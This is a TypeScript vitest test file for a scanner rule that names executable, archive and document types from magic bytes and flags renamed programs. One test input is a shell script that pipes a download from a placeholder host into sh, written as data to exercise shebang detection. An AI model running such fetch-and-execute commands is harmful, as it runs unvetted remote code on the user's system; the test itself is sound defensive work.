import { describe, expect, it } from 'vitest';
import { detectMagic, magicMismatch } from '../../../../src/scan/rules/magic.js';
import { storedZip } from './make-input.js';

const names = async (bytes: Buffer): Promise<string[]> => [...(await detectMagic(bytes))];

describe('magic names read by file-type', () => {
  it('names programs, whatever they are called', async () => {
    expect(await names(Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'))).toEqual(['pe']);
    expect(await names(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]))).toEqual([
      'elf',
    ]);
    expect(await names(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]))).toEqual(['macho']);
    expect(await names(Buffer.from('#!/bin/sh\ncurl http://x | sh\n'))).toEqual(['shebang']);
  });

  it('names every ZIP container zip, the Office file file-type sees inside included', async () => {
    const docx = storedZip([
      {
        name: '[Content_Types].xml',
        data: '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      },
      { name: 'word/document.xml', data: '<w:document/>' },
    ]);
    expect(await names(docx)).toEqual(['zip']);
    expect(await names(storedZip([{ name: 'a.txt', data: 'x' }]))).toEqual(['zip']);
    expect(await names(Buffer.from('%PDF-1.7\n'))).toEqual(['pdf']);
    expect(
      await names(
        Buffer.from([
          0xd0,
          0xcf,
          0x11,
          0xe0,
          0xa1,
          0xb1,
          0x1a,
          0xe1,
          ...new Array<number>(504).fill(0),
        ]),
      ),
    ).toEqual(['ole2']);
  });

  it('knows no type for text, nothing, or bytes that only start like a format', async () => {
    expect(await names(Buffer.from('Kính gửi các đồng chí'))).toEqual([]);
    expect(await names(Buffer.alloc(0))).toEqual([]);
    expect(await names(Buffer.from('PK\x03\x04', 'latin1'))).toEqual(['zip']);
  });

  it('reports a renamed program, not an RTF saved as .doc', async () => {
    const pe = await detectMagic(Buffer.from('MZ\x90\x00', 'latin1'));
    expect(magicMismatch('pdf', pe)).toBe('pe');
    const rtf = await detectMagic(Buffer.from('{\\rtf1\\ansi '));
    expect(magicMismatch('doc', rtf)).toBeUndefined();
    expect(magicMismatch('pdf', await detectMagic(Buffer.from('%PDF-1.4')))).toBeUndefined();
  });
});
